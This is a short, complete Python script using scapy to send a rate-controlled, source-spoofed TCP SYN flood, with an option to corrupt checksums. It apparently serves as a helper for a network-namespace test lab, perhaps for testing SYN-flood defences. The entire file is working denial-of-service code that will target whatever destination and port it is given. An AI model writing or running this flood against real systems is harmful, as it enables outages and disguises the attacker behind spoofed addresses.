"""A spoofed SYN flood, as `hping3 --flood --rand-source -S` sends one, at a chosen rate.

Sends RATE SYNs a second for SECONDS to DST:DPORT, each from a random source address of
PREFIX.FIRST..PREFIX.LAST (IPv4) and a random port, with a random sequence number; nothing
answers the SYN-ACKs. With --bad-checksum every SYN's TCP checksum is wrong. Prints one JSON
line: {"sent": N, "seconds": S}.

  syn_flood.py DST DPORT RATE SECONDS PREFIX FIRST LAST [--bad-checksum]

Runs only under /usr/bin/python3 (Debian's scapy), as root, inside the client namespace.
"""

import json
import random
import sys
import time

from scapy.all import IP, TCP, conf  # type: ignore

conf.verb = 0


def main():
    dst, dport, rate, seconds, prefix, first, last = sys.argv[1:8]
    bad = "--bad-checksum" in sys.argv[8:]
    dport, rate, seconds, first, last = int(dport), int(rate), float(seconds), int(first), int(last)
    sock = conf.L3socket()
    t0 = time.monotonic()
    sent = 0
    total = int(rate * seconds)
    while sent < total:
        src = f"{prefix}{random.randint(first, last)}"
        syn = IP(src=src, dst=dst) / TCP(
            sport=random.randint(1024, 65535), dport=dport, flags="S", seq=random.getrandbits(32)
        )
        if bad:
            raw = bytearray(bytes(syn))
            raw[36] ^= 0x01  # the TCP checksum's high byte (20-byte IP header)
            syn = IP(bytes(raw))
        sock.send(syn)
        sent += 1
        # Paced: the n-th SYN leaves at n / rate seconds.
        ahead = t0 + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    sock.close()
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 3)}), flush=True)


if __name__ == "__main__":
    main()
